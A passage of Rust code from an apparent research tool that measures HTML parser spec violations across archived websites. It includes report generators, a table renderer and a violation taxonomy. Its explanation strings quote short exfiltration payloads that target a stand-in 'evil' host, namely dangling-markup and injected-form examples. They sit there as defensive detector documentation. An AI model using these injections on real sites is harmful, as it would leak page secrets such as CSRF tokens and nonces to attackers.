/// §4.5: deployed-mitigation conflicts.
pub fn mitigations(store: &IndexedStore) -> String {
    let m = store.index.mitigation_trends();
    let mut s = String::from("Existing mitigations (§4.5)\n\n");
    s.push_str(&year_header(30));
    let pick = |xs: &[(usize, f64); YEARS]| {
        let mut out = [0.0; YEARS];
        for (i, (_, pct)) in xs.iter().enumerate() {
            out[i] = *pct;
        }
        out
    };
    s.push_str(&series_row("<script in attribute", &pick(&m.script_in_attribute), 30));
    s.push_str(&series_row("  paper", &paper_yearly_pct(ViolationKind::DE3_2), 30));
    s.push_str(&series_row("newline in URL", &pick(&m.newline_in_url), 30));
    s.push_str(&series_row("  paper", &PAPER_NEWLINE_URL_PCT, 30));
    s.push_str(&series_row("newline + '<' in URL", &pick(&m.newline_and_lt_in_url), 30));
    s.push_str(&series_row("  paper", &paper_yearly_pct(ViolationKind::DE3_1), 30));
    let nonced: usize = m.script_in_nonced_script.iter().sum();
    s.push_str(&format!(
        "\nnonced <script> elements containing \"<script\" in an attribute: {nonced}   (paper: none)\n"
    ));
    s
}

/// §5.3.2 extension: the STRICT-PARSER rollout simulation — breakage per
/// enforcement stage per year. (Not a figure in the paper; it answers the
/// question the roadmap poses with the measured data.)
pub fn rollout(store: &IndexedStore) -> String {
    let stages = store.index.rollout_breakage();
    let mut s = String::from(
        "STRICT-PARSER rollout simulation (§5.3.2 proposal)\n\
         Share of analyzed domains with ≥1 page blocked under `default` mode:\n\n",
    );
    s.push_str(&year_header(34));
    let labels = [
        "stage 0 (nothing enforced)",
        "stage 1 (+math, dangling markup)",
        "stage 2 (+DE family, stray base)",
        "stage 3 (+structural HF, FB1)",
        "stage 4 (= strict: +FB2, DM3)",
    ];
    let mut plot: Vec<(&str, [f64; YEARS])> = Vec::new();
    for ((stage, series), label) in stages.iter().zip(labels.iter()) {
        s.push_str(&series_row(label, series, 34));
        if *stage > 0 {
            plot.push((label, *series));
        }
    }
    s.push('\n');
    s.push_str(&ascii_plot(&plot, 10));
    s.push_str(
        "\nReading: stage 1 could be enforced today (breakage well under 1%);\n\
         stage 4 is the long-run goal the paper argues for once usage decays.\n",
    );
    s
}

/// §5.2's churn quantified: violations appearing and disappearing between
/// consecutive snapshots — the refactor dynamics behind Figure 14.
pub fn churn(store: &IndexedStore) -> String {
    let rows = store.index.violation_churn();
    let mut t = TextTable::new(["From", "To", "Added", "Removed", "Net"]);
    for r in &rows {
        t.row([
            r.from.clone(),
            r.to.clone(),
            format!("{}", r.added),
            format!("{}", r.removed),
            format!("{:+}", r.added as i64 - r.removed as i64),
        ]);
    }
    format!(
        "Violation churn between snapshots (§5.2: \"changes to a website can\n\
         remove violations but also introduce new ones\"; (domain, kind) pairs)\n\n{}",
        t.render()
    )
}

/// §5.1/§5.2: the auxiliary studies (dynamic content and long tail).
/// Rebuilds the archive from the store's (seed, scale) provenance and runs
/// both side analyses.
pub fn aux_studies(store: &IndexedStore) -> String {
    let archive =
        hv_corpus::Archive::new(hv_corpus::CorpusConfig { seed: store.seed, scale: store.scale });
    let top_k = (archive.domains().len() / 20).clamp(50, 1000);
    let dynamic = hv_pipeline::auxstudies::dynamic_study(&archive, top_k, 30);
    let mut s = String::from("Auxiliary studies (§5.1 / §5.2)\n\n");
    s.push_str(&format!(
        "§5.1 dynamically loaded content (top {} domains, 2021):\n\
         \x20 fragments checked:          {}\n\
         \x20 domains with ≥1 violation:  {:.1}%   (paper: \"more than 60%\")\n\
         \x20 top fragment violations:    {}\n\
         \x20 math-related violations:    {}   (paper: \"hardly appear\")\n\n",
        dynamic.domains,
        dynamic.fragments,
        dynamic.violating_share,
        dynamic
            .kind_counts
            .iter()
            .take(3)
            .map(|(k, c)| format!("{} ({c})", k.id()))
            .collect::<Vec<_>>()
            .join(", "),
        dynamic
            .kind_counts
            .iter()
            .find(|(k, _)| *k == ViolationKind::HF5_3)
            .map(|(_, c)| *c)
            .unwrap_or(0),
    ));
    let sample = (archive.domains().len() / 10).clamp(50, 500);
    let lt = hv_pipeline::auxstudies::longtail_study(&archive, sample, Snapshot::ALL[6]);
    s.push_str(&format!(
        "§5.2 less popular websites ({} per population, {}):\n\
         \x20 violating share:   popular {:.1}%  vs  long tail {:.1}%\n\
         \x20 kinds per domain:  popular {:.2}  vs  long tail {:.2}   (paper: popular sites violate more)\n\
         \x20 HF5 (namespace):   popular {:.1}%  vs  long tail {:.1}%   (paper: complex SVGs on top sites)\n",
        lt.popular_domains.min(lt.longtail_domains),
        lt.snapshot,
        lt.popular_violating_share,
        lt.longtail_violating_share,
        lt.popular_kinds_per_domain,
        lt.longtail_kinds_per_domain,
        lt.popular_hf5_share,
        lt.longtail_hf5_share,
    ));
    s
}

/// The full report: every experiment in order.
pub fn full_report(store: &IndexedStore) -> String {
    let parts = [
        table1(),
        table2(store),
        fig8(store),
        fig9(store),
        fig10(store),
        fig16(store),
        fig17(store),
        fig18(store),
        fig19(store),
        fig20(store),
        fig21(store),
        stats(store),
        autofix(store),
        mitigations(store),
        rollout(store),
        churn(store),
        aux_studies(store),
    ];
    parts.join("\n================================================================\n\n")
}

/// Names accepted by [`render`], in presentation order. This is the single
/// source of truth for "what experiments exist" — the CLI usage text and
/// the server's `/v1/report/{experiment}` endpoint both derive from it.
pub const EXPERIMENTS: &[&str] = &[
    "table1",
    "table2",
    "fig8",
    "fig9",
    "fig10",
    "fig16",
    "fig17",
    "fig18",
    "fig19",
    "fig20",
    "fig21",
    "stats",
    "autofix",
    "mitigations",
    "rollout",
    "churn",
    "aux",
    "all",
];

/// Render one experiment by name, or `None` for an unknown name. Shared by
/// `hva report` and the service layer's `/v1/report/{experiment}` so the
/// two surfaces can never drift apart.
pub fn render(name: &str, store: &IndexedStore) -> Option<String> {
    Some(match name {
        "table1" => table1(),
        "table2" => table2(store),
        "fig8" => fig8(store),
        "fig9" => fig9(store),
        "fig10" => fig10(store),
        "fig16" => fig16(store),
        "fig17" => fig17(store),
        "fig18" => fig18(store),
        "fig19" => fig19(store),
        "fig20" => fig20(store),
        "fig21" => fig21(store),
        "stats" => stats(store),
        "autofix" => autofix(store),
        "mitigations" => mitigations(store),
        "rollout" => rollout(store),
        "churn" => churn(store),
        "aux" => aux_studies(store),
        "all" => full_report(store),
        _ => return None,
    })
}

/// Machine-readable dump of every experiment (for downstream analysis or
/// regression-diffing two scans).
pub fn experiments_json(store: &IndexedStore) -> serde_json::Value {
    let groups: serde_json::Map<String, serde_json::Value> = store
        .index
        .group_trends()
        .into_iter()
        .map(|(g, series)| (g.code().to_owned(), serde_json::json!(series.to_vec())))
        .collect();
    let kinds: serde_json::Map<String, serde_json::Value> = ViolationKind::ALL
        .iter()
        .map(|&k| {
            (
                k.id().to_owned(),
                serde_json::json!({
                    "paper_union_pct": union_target(k) * 100.0,
                    "paper_yearly_pct": paper_yearly_pct(k).to_vec(),
                    "measured_yearly_pct": store.index.kind_trend(k).to_vec(),
                }),
            )
        })
        .collect();
    serde_json::json!({
        "provenance": { "seed": store.seed, "scale": store.scale, "universe": store.universe },
        "table2": store.index.table2(),
        "fig8": store.index.overall_distribution(),
        "fig9": {
            "paper": PAPER_ANY_VIOLATION_PCT.to_vec(),
            "measured": store.index.violating_domains_by_year().to_vec(),
        },
        "fig10_groups": groups,
        "appendix_kind_trends": kinds,
        "stats_4_2_union_any_pct": store.index.overall_violating_share(),
        "stats_4_2_math_usage": store.index.math_usage_by_year().to_vec(),
        "stats_4_4_autofix_2022": store.index.autofix_projection(Snapshot::ALL[7]),
        "stats_4_5_mitigations": store.index.mitigation_trends(),
        "rollout_breakage": store.index.rollout_breakage()
            .into_iter()
            .map(|(stage, series)| serde_json::json!({"stage": stage, "blocked_pct": series.to_vec()}))
            .collect::<Vec<_>>(),
        "churn": store.index.violation_churn(),
    })
}

/// Markdown paper-vs-measured summary for EXPERIMENTS.md.
pub fn experiments_markdown(store: &IndexedStore) -> String {
    let mut md = String::new();
    md.push_str(&format!(
        "# EXPERIMENTS — paper vs. measured\n\n\
         Corpus: seed `{}`, scale `{}` ({} domains; the paper's universe is 24,915). \
         Regenerate with `cargo run --release -p hv-cli -- repro --seed {} --scale {}`.\n\n",
        store.seed, store.scale, store.universe, store.seed, store.scale
    ));

    // Figure 9.
    md.push_str("## Figure 9 — domains with ≥1 violation per year (%)\n\n");
    md.push_str("| year | paper | measured |\n|---|---|---|\n");
    let fig9 = store.index.violating_domains_by_year();
    for y in 0..YEARS {
        md.push_str(&format!(
            "| {} | {:.2} | {:.2} |\n",
            2015 + y,
            PAPER_ANY_VIOLATION_PCT[y],
            fig9[y]
        ));
    }

    // Figure 8.
    md.push_str("\n## Figure 8 — overall distribution (% of analyzed domains)\n\n");
    md.push_str("| violation | paper | measured |\n|---|---|---|\n");
    for b in store.index.overall_distribution() {
        md.push_str(&format!(
            "| {} | {:.2} | {:.2} |\n",
            b.kind.id(),
            union_target(b.kind) * 100.0,
            b.share
        ));
    }

    // Figure 10.
    md.push_str("\n## Figure 10 — problem-group trends (%)\n\n");
    md.push_str("| group | 2015 measured | 2022 measured | paper 2015→2022 |\n|---|---|---|---|\n");
    let groups = store.index.group_trends();
    let envelopes = [
        (ProblemGroup::FilterBypass, "52→43"),
        (ProblemGroup::DataManipulation, "47→44"),
        (ProblemGroup::HtmlFormatting, "42→33"),
        (ProblemGroup::DataExfiltration, "5→4"),
    ];
    for (g, env) in envelopes {
        let s = groups[&g];
        md.push_str(&format!("| {} | {:.1} | {:.1} | {} |\n", g.name(), s[0], s[7], env));
    }

    // Table 2.
    md.push_str("\n## Table 2 — dataset (counts at this scale)\n\n");
    md.push_str("| snapshot | found | analyzed | share | Ø pages | paper Ø pages |\n|---|---|---|---|---|---|\n");
    for (row, t) in store.index.table2().iter().zip(TABLE2_TARGETS.iter()) {
        md.push_str(&format!(
            "| {} | {} | {} | {:.1}% | {:.1} | {:.1} |\n",
            row.snapshot,
            row.domains_found,
            row.domains_analyzed,
            row.analyzed_share,
            row.avg_pages,
            t.avg_pages
        ));
    }

    // §4.2 / §4.4 / §4.5.
    let share = store.index.overall_violating_share();
    md.push_str(&format!(
        "\n## §4.2 — violated at least once: measured {share:.1}% (paper {PAPER_UNION_ANY_PCT:.0}%)\n"
    ));
    let p = store.index.autofix_projection(Snapshot::ALL[7]);
    md.push_str(&format!(
        "\n## §4.4 — auto-fix 2022: violating {:.1}% → {:.1}% after fix; {:.1}% of violating sites fixed (paper 68% → 37%, 46%)\n",
        p.violating_share, p.after_share, p.fixed_share
    ));
    let m = store.index.mitigation_trends();
    md.push_str(&format!(
        "\n## §4.5 — mitigation conflicts 2015→2022: `<script` in attr {:.2}%→{:.2}% (paper 1.5→1.4); newline URL {:.1}%→{:.1}% (paper 11.2→11.0); newline+`<` {:.2}%→{:.2}% (paper 1.37→0.76); nonced-script conflicts: {} (paper 0)\n",
        m.script_in_attribute[0].1,
        m.script_in_attribute[7].1,
        m.newline_in_url[0].1,
        m.newline_in_url[7].1,
        m.newline_and_lt_in_url[0].1,
        m.newline_and_lt_in_url[7].1,
        m.script_in_nonced_script.iter().sum::<usize>(),
    ));

    // §5.3.2 rollout simulation.
    md.push_str("\n## §5.3.2 — STRICT-PARSER rollout: % of domains blocked per stage (2022)\n\n");
    md.push_str("| stage | enforced checks | blocked domains 2022 |\n|---|---|---|\n");
    for (stage, series) in store.index.rollout_breakage() {
        let list = hv_core::strict::EnforcementList::stage(stage);
        md.push_str(&format!("| {} | {} | {:.2}% |\n", stage, list.len(), series[7]));
    }

    // Per-kind appendix trends.
    md.push_str("\n## Appendix B (Figures 16–21) — per-violation yearly trends (%)\n\n");
    md.push_str("| violation | 2015 paper | 2015 measured | 2022 paper | 2022 measured |\n|---|---|---|---|---|\n");
    for kind in ViolationKind::ALL {
        let measured = store.index.kind_trend(kind);
        let paper = paper_yearly_pct(kind);
        md.push_str(&format!(
            "| {} | {:.2} | {:.2} | {:.2} | {:.2} |\n",
            kind.id(),
            paper[0],
            measured[0],
            paper[7],
            measured[7]
        ));
    }
    md
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_store() -> IndexedStore {
        let archive = hv_corpus::Archive::new(hv_corpus::CorpusConfig { seed: 5, scale: 0.002 });
        IndexedStore::new(hv_pipeline::scan(&archive, hv_pipeline::ScanOptions::new().threads(4)))
    }

    #[test]
    fn table1_lists_all_kinds() {
        let t = table1();
        for kind in ViolationKind::ALL {
            assert!(t.contains(kind.id()), "{} missing from Table 1", kind.id());
        }
    }

    #[test]
    fn full_report_renders_every_section() {
        let store = tiny_store();
        let report = full_report(&store);
        for needle in [
            "Table 1",
            "Table 2",
            "Figure 8",
            "Figure 9",
            "Figure 10",
            "Figure 16",
            "Figure 17",
            "Figure 18",
            "Figure 19",
            "Figure 20",
            "Figure 21",
            "§4.2",
            "§4.4",
            "§4.5",
        ] {
            assert!(report.contains(needle), "missing section {needle}");
        }
    }

    #[test]
    fn experiments_json_is_complete() {
        let store = tiny_store();
        let v = experiments_json(&store);
        for key in [
            "provenance",
            "table2",
            "fig8",
            "fig9",
            "fig10_groups",
            "appendix_kind_trends",
            "stats_4_2_union_any_pct",
            "stats_4_4_autofix_2022",
            "stats_4_5_mitigations",
            "rollout_breakage",
            "churn",
        ] {
            assert!(v.get(key).is_some(), "missing {key}");
        }
        assert_eq!(v["appendix_kind_trends"].as_object().unwrap().len(), 20);
        // Round-trips through text.
        let text = serde_json::to_string(&v).unwrap();
        let back: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(back["fig9"]["paper"], v["fig9"]["paper"]);
    }

    #[test]
    fn experiments_markdown_has_tables() {
        let store = tiny_store();
        let md = experiments_markdown(&store);
        assert!(md.contains("## Figure 9"));
        assert!(md.contains("## Figure 8"));
        assert!(md.contains("| FB2 |"));
        assert!(md.contains("## §4.4"));
    }
}
