//! Plain-text table rendering.

/// A simple column-aligned table builder for terminal reports.
#[derive(Debug, Default)]
pub struct TextTable {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl TextTable {
    pub fn new<S: Into<String>>(header: impl IntoIterator<Item = S>) -> Self {
        TextTable { header: header.into_iter().map(Into::into).collect(), rows: Vec::new() }
    }

    pub fn row<S: Into<String>>(&mut self, cells: impl IntoIterator<Item = S>) -> &mut Self {
        let cells: Vec<String> = cells.into_iter().map(Into::into).collect();
        debug_assert_eq!(cells.len(), self.header.len(), "row arity mismatch");
        self.rows.push(cells);
        self
    }

    /// Render with a separator under the header; numeric-looking columns
    /// are right-aligned.
    pub fn render(&self) -> String {
        let cols = self.header.len();
        let mut widths = vec![0usize; cols];
        for (i, h) in self.header.iter().enumerate() {
            widths[i] = widths[i].max(h.chars().count());
        }
        for row in &self.rows {
            for (i, c) in row.iter().enumerate() {
                widths[i] = widths[i].max(c.chars().count());
            }
        }
        let numeric: Vec<bool> = (0..cols)
            .map(|i| {
                !self.rows.is_empty()
                    && self.rows.iter().all(|r| {
                        r[i].chars().all(|c| {
                            c.is_ascii_digit()
                                || matches!(c, '.' | '%' | ',' | '-' | '(' | ')' | ' ')
                        })
                    })
            })
            .collect();
        let mut out = String::new();
        let fmt_row = |cells: &[String], out: &mut String| {
            for (i, c) in cells.iter().enumerate() {
                if i > 0 {
                    out.push_str("  ");
                }
                let pad = widths[i].saturating_sub(c.chars().count());
                if numeric[i] {
                    out.extend(std::iter::repeat_n(' ', pad));
                    out.push_str(c);
                } else {
                    out.push_str(c);
                    if i + 1 < cells.len() {
                        out.extend(std::iter::repeat_n(' ', pad));
                    }
                }
            }
            out.push('\n');
        };
        fmt_row(&self.header, &mut out);
        let total: usize = widths.iter().sum::<usize>() + 2 * (cols - 1);
        out.extend(std::iter::repeat_n('-', total));
        out.push('\n');
        for row in &self.rows {
            fmt_row(row, &mut out);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_aligned() {
        let mut t = TextTable::new(["name", "count"]);
        t.row(["alpha", "12"]);
        t.row(["b", "3456"]);
        let s = t.render();
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with("name"));
        assert!(lines[1].chars().all(|c| c == '-'));
        // Numeric column right-aligned.
        assert!(lines[2].ends_with("  12"));
        assert!(lines[3].ends_with("3456"));
    }

    #[test]
    fn text_columns_left_aligned() {
        let mut t = TextTable::new(["id", "text"]);
        t.row(["1", "abc"]);
        t.row(["2", "a"]);
        let s = t.render();
        assert!(s.contains("abc"));
    }
}
