//! The paper's violation taxonomy (§3.2, Table 1).
//!
//! Two *categories*: **Definition Violations** (the specification defines
//! behaviour, but the parsing process contradicts it — no parser error state
//! is involved) and **Parsing Errors** (the parser passes a named error
//! state and recovers). Four *problem groups* name the security impact:
//! Data Exfiltration (DE), Data Manipulation (DM), HTML Formatting (HF,
//! enabling mXSS), and Filter Bypass (FB).
//!
//! The 14 violation families of Table 1 expand to the 20 concrete checks
//! reported in the paper's Figure 8 (DM2 and DE3 and HF5 have sub-checks).

use serde::{Deserialize, Serialize};
use std::fmt;

/// The paper's two violation categories (§3.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ViolationCategory {
    /// Specified behaviour contradicted by the parsing process; no parser
    /// error state fires (§3.2.1).
    DefinitionViolation,
    /// The parser passes an error state and silently recovers (§3.2.2).
    ParsingError,
}

/// The four problem groups (§3.2): what an attacker gains from the
/// violation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ProblemGroup {
    /// Exfiltrate secret information (dangling markup and friends).
    DataExfiltration,
    /// Manipulate content (redirects, base URL hijacking, attribute
    /// clobbering).
    DataManipulation,
    /// Markup re-arrangement that enables mutation XSS.
    HtmlFormatting,
    /// Bypass HTML filters and web application firewalls.
    FilterBypass,
}

impl ProblemGroup {
    pub const ALL: [ProblemGroup; 4] = [
        ProblemGroup::DataExfiltration,
        ProblemGroup::DataManipulation,
        ProblemGroup::HtmlFormatting,
        ProblemGroup::FilterBypass,
    ];

    /// Two-letter code used throughout the paper.
    pub fn code(self) -> &'static str {
        match self {
            ProblemGroup::DataExfiltration => "DE",
            ProblemGroup::DataManipulation => "DM",
            ProblemGroup::HtmlFormatting => "HF",
            ProblemGroup::FilterBypass => "FB",
        }
    }

    /// Full name as used in Figure 10's legend.
    pub fn name(self) -> &'static str {
        match self {
            ProblemGroup::DataExfiltration => "Data Exfiltration",
            ProblemGroup::DataManipulation => "Data Manipulation",
            ProblemGroup::HtmlFormatting => "HTML Formatting",
            ProblemGroup::FilterBypass => "Filter Bypass",
        }
    }
}

impl fmt::Display for ProblemGroup {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Whether the paper's §4.4 analysis classifies a violation as fixable by a
/// simple automated process.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Fixability {
    /// "Repairing these issues could be automated" — FB via
    /// serialize/deserialize, DM3 via duplicate removal, DM1/DM2 via moving
    /// elements into head.
    Automatic,
    /// Requires developer judgment (where should the URL point? which
    /// section does the element belong to?).
    Manual,
}

/// The 20 concrete checks of the study (Table 1 with sub-checks, ordered as
/// in Figure 8's x-axis universe).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[allow(non_camel_case_types)]
pub enum ViolationKind {
    /// Non-terminated `textarea` element.
    DE1,
    /// Non-terminated `select` / `option` elements.
    DE2,
    /// Non-terminated HTML: classic dangling markup — a URL attribute
    /// containing both a newline and `<`.
    DE3_1,
    /// Non-terminated HTML: nonce stealing — `<script` inside an attribute
    /// value.
    DE3_2,
    /// Non-terminated HTML: unclosed `target` attribute (newline inside).
    DE3_3,
    /// Nested `form` element (inner form ignored by the parser).
    DE4,
    /// `meta[http-equiv]` outside the head section.
    DM1,
    /// `base` element outside the head section.
    DM2_1,
    /// More than one `base` element per document.
    DM2_2,
    /// `base` element after an element that uses a URL.
    DM2_3,
    /// Multiple attributes with the same name on one element.
    DM3,
    /// Broken head section (missing head tags / foreign elements in head).
    HF1,
    /// Content before `body` (implicitly opened body).
    HF2,
    /// Multiple `body` elements (attributes merged).
    HF3,
    /// Broken `table` element (content foster-parented out).
    HF4,
    /// Wrong namespace: foreign-only elements parsed in the HTML namespace.
    HF5_1,
    /// Wrong namespace: breakout out of SVG content.
    HF5_2,
    /// Wrong namespace: breakout out of MathML content.
    HF5_3,
    /// Slash between attributes (`unexpected-solidus-in-tag`).
    FB1,
    /// Missing whitespace between attributes.
    FB2,
}

impl ViolationKind {
    /// All 20 checks, in taxonomy order.
    pub const ALL: [ViolationKind; 20] = [
        ViolationKind::DE1,
        ViolationKind::DE2,
        ViolationKind::DE3_1,
        ViolationKind::DE3_2,
        ViolationKind::DE3_3,
        ViolationKind::DE4,
        ViolationKind::DM1,
        ViolationKind::DM2_1,
        ViolationKind::DM2_2,
        ViolationKind::DM2_3,
        ViolationKind::DM3,
        ViolationKind::HF1,
        ViolationKind::HF2,
        ViolationKind::HF3,
        ViolationKind::HF4,
        ViolationKind::HF5_1,
        ViolationKind::HF5_2,
        ViolationKind::HF5_3,
        ViolationKind::FB1,
        ViolationKind::FB2,
    ];

    /// The paper's identifier, e.g. `"DM2_3"`.
    pub fn id(self) -> &'static str {
        match self {
            ViolationKind::DE1 => "DE1",
            ViolationKind::DE2 => "DE2",
            ViolationKind::DE3_1 => "DE3_1",
            ViolationKind::DE3_2 => "DE3_2",
            ViolationKind::DE3_3 => "DE3_3",
            ViolationKind::DE4 => "DE4",
            ViolationKind::DM1 => "DM1",
            ViolationKind::DM2_1 => "DM2_1",
            ViolationKind::DM2_2 => "DM2_2",
            ViolationKind::DM2_3 => "DM2_3",
            ViolationKind::DM3 => "DM3",
            ViolationKind::HF1 => "HF1",
            ViolationKind::HF2 => "HF2",
            ViolationKind::HF3 => "HF3",
            ViolationKind::HF4 => "HF4",
            ViolationKind::HF5_1 => "HF5_1",
            ViolationKind::HF5_2 => "HF5_2",
            ViolationKind::HF5_3 => "HF5_3",
            ViolationKind::FB1 => "FB1",
            ViolationKind::FB2 => "FB2",
        }
    }

    /// Parse a paper identifier back into a kind.
    pub fn from_id(id: &str) -> Option<ViolationKind> {
        ViolationKind::ALL.iter().copied().find(|k| k.id() == id)
    }

    /// Table 1's one-line definition.
    pub fn definition(self) -> &'static str {
        match self {
            ViolationKind::DE1 => "Non-terminated textarea element",
            ViolationKind::DE2 => "Non-terminated select and option elements",
            ViolationKind::DE3_1 => "Non-terminated HTML (dangling markup URL)",
            ViolationKind::DE3_2 => "Non-terminated HTML (nonce stealing)",
            ViolationKind::DE3_3 => "Non-terminated HTML (unclosed target attribute)",
            ViolationKind::DE4 => "Nested form element",
            ViolationKind::DM1 => "Meta tag outside head",
            ViolationKind::DM2_1 => "Base tag outside head",
            ViolationKind::DM2_2 => "Multiple base tags",
            ViolationKind::DM2_3 => "Base tag after URL-using element",
            ViolationKind::DM3 => "Multiple same attributes",
            ViolationKind::HF1 => "Broken head section",
            ViolationKind::HF2 => "Content before body",
            ViolationKind::HF3 => "Multiple body elements",
            ViolationKind::HF4 => "Broken table element",
            ViolationKind::HF5_1 => "Wrong namespace (foreign element in HTML)",
            ViolationKind::HF5_2 => "Wrong namespace (breakout from SVG)",
            ViolationKind::HF5_3 => "Wrong namespace (breakout from MathML)",
            ViolationKind::FB1 => "Slashes between attributes",
            ViolationKind::FB2 => "Missing space between attributes",
        }
    }

    pub fn group(self) -> ProblemGroup {
        match self {
            ViolationKind::DE1
            | ViolationKind::DE2
            | ViolationKind::DE3_1
            | ViolationKind::DE3_2
            | ViolationKind::DE3_3
            | ViolationKind::DE4 => ProblemGroup::DataExfiltration,
            ViolationKind::DM1
            | ViolationKind::DM2_1
            | ViolationKind::DM2_2
            | ViolationKind::DM2_3
            | ViolationKind::DM3 => ProblemGroup::DataManipulation,
            ViolationKind::HF1
            | ViolationKind::HF2
            | ViolationKind::HF3
            | ViolationKind::HF4
            | ViolationKind::HF5_1
            | ViolationKind::HF5_2
            | ViolationKind::HF5_3 => ProblemGroup::HtmlFormatting,
            ViolationKind::FB1 | ViolationKind::FB2 => ProblemGroup::FilterBypass,
        }
    }

    /// §3.2's categorization: DE1/DE2 and the DM/HF tag-placement families
    /// are Definition Violations; the attribute/parsing anomalies are
    /// Parsing Errors.
    pub fn category(self) -> ViolationCategory {
        match self {
            ViolationKind::DE1
            | ViolationKind::DE2
            | ViolationKind::DM1
            | ViolationKind::DM2_1
            | ViolationKind::DM2_2
            | ViolationKind::DM2_3
            | ViolationKind::HF1
            | ViolationKind::HF2 => ViolationCategory::DefinitionViolation,
            ViolationKind::DE3_1
            | ViolationKind::DE3_2
            | ViolationKind::DE3_3
            | ViolationKind::DE4
            | ViolationKind::DM3
            | ViolationKind::HF3
            | ViolationKind::HF4
            | ViolationKind::HF5_1
            | ViolationKind::HF5_2
            | ViolationKind::HF5_3
            | ViolationKind::FB1
            | ViolationKind::FB2 => ViolationCategory::ParsingError,
        }
    }

    /// §4.4's auto-fixability classification.
    pub fn fixability(self) -> Fixability {
        match self.group() {
            ProblemGroup::FilterBypass | ProblemGroup::DataManipulation => Fixability::Automatic,
            ProblemGroup::DataExfiltration | ProblemGroup::HtmlFormatting => Fixability::Manual,
        }
    }

    /// The Table-1 family this check belongs to (e.g. DM2_3 → "DM2").
    pub fn family(self) -> &'static str {
        let id = self.id();
        match id.find('_') {
            Some(i) => &id[..i],
            None => id,
        }
    }
}

impl fmt::Display for ViolationKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn twenty_checks_total() {
        assert_eq!(ViolationKind::ALL.len(), 20);
    }

    #[test]
    fn table1_has_fourteen_families() {
        let mut families: Vec<&str> = ViolationKind::ALL.iter().map(|k| k.family()).collect();
        families.dedup();
        families.sort_unstable();
        families.dedup();
        assert_eq!(families.len(), 14);
    }

    #[test]
    fn ids_roundtrip() {
        for k in ViolationKind::ALL {
            assert_eq!(ViolationKind::from_id(k.id()), Some(k));
        }
        assert_eq!(ViolationKind::from_id("nope"), None);
    }

    #[test]
    fn groups_match_prefixes() {
        for k in ViolationKind::ALL {
            assert!(k.id().starts_with(k.group().code()));
        }
    }

    #[test]
    fn fb_and_dm_are_automatic() {
        assert_eq!(ViolationKind::FB1.fixability(), Fixability::Automatic);
        assert_eq!(ViolationKind::FB2.fixability(), Fixability::Automatic);
        assert_eq!(ViolationKind::DM3.fixability(), Fixability::Automatic);
        assert_eq!(ViolationKind::DM2_1.fixability(), Fixability::Automatic);
        assert_eq!(ViolationKind::HF4.fixability(), Fixability::Manual);
        assert_eq!(ViolationKind::DE1.fixability(), Fixability::Manual);
    }

    #[test]
    fn categories_split_as_in_section_3_2() {
        assert_eq!(ViolationKind::DE1.category(), ViolationCategory::DefinitionViolation);
        assert_eq!(ViolationKind::DM1.category(), ViolationCategory::DefinitionViolation);
        assert_eq!(ViolationKind::HF1.category(), ViolationCategory::DefinitionViolation);
        assert_eq!(ViolationKind::FB1.category(), ViolationCategory::ParsingError);
        assert_eq!(ViolationKind::DM3.category(), ViolationCategory::ParsingError);
        assert_eq!(ViolationKind::DE3_1.category(), ViolationCategory::ParsingError);
    }

    #[test]
    fn serde_roundtrip() {
        let json = serde_json::to_string(&ViolationKind::DM2_3).unwrap();
        let back: ViolationKind = serde_json::from_str(&json).unwrap();
        assert_eq!(back, ViolationKind::DM2_3);
    }
}

impl ViolationKind {
    /// A developer-facing explanation: the parser behaviour, the attack it
    /// enables, and how to fix the markup — the succinct, specific console
    /// warning §5.3.2 calls for.
    pub fn explanation(self) -> Explanation {
        use ViolationKind::*;
        match self {
            DE1 => Explanation {
                behaviour: "The parser closes an unterminated <textarea> only at the end of the file, absorbing everything after it as text.",
                attack: "An injected <form action=evil><input type=submit><textarea> exfiltrates all following page content (CSRF tokens included) when the victim submits.",
                fix: "Close every <textarea> explicitly; never emit one from string concatenation.",
            },
            DE2 => Explanation {
                behaviour: "An unterminated <select>/<option> swallows following content; inner tags are dropped but their text is kept.",
                attack: "Injected <select><option> leaks following plain text into an attacker-readable form value.",
                fix: "Close <select> and <option> explicitly.",
            },
            DE3_1 => Explanation {
                behaviour: "A URL attribute containing a raw newline and '<' is the signature of a non-terminated attribute that swallowed markup.",
                attack: "Classic dangling markup: <img src='http://evil/?= absorbs the page up to the next quote and ships it cross-origin. Chromium blocks such URLs since 2017.",
                fix: "Find the unterminated quote; URL-encode any legitimate newline.",
            },
            DE3_2 => Explanation {
                behaviour: "The string '<script' inside an attribute value means an attribute absorbed a script element.",
                attack: "Nonce stealing: the absorbed <script nonce=…> donates its CSP nonce to the attacker's element.",
                fix: "Terminate the attribute; if '<script' is intentional (srcdoc, templates), HTML-encode it.",
            },
            DE3_3 => Explanation {
                behaviour: "A target attribute with a raw newline indicates a non-terminated attribute absorbing markup.",
                attack: "Window names persist cross-origin: navigating leaks the absorbed content via window.name.",
                fix: "Terminate the attribute; target values never legitimately contain newlines.",
            },
            DE4 => Explanation {
                behaviour: "The parser silently ignores a <form> start tag while another form is open (the form element pointer).",
                attack: "An injected form BEFORE the real one captures its fields and submits them to the attacker's action URL.",
                fix: "Close every form; remove copy-pasted duplicate form openings.",
            },
            DM1 => Explanation {
                behaviour: "meta[http-equiv] is only defined for <head>, but the parser honours it anywhere.",
                attack: "An injected meta refresh in the body redirects the user; some engines even process CSP-relevant directives.",
                fix: "Move the meta into <head>; the automatic fixer does this safely.",
            },
            DM2_1 => Explanation {
                behaviour: "<base> outside <head> is still honoured by the parser.",
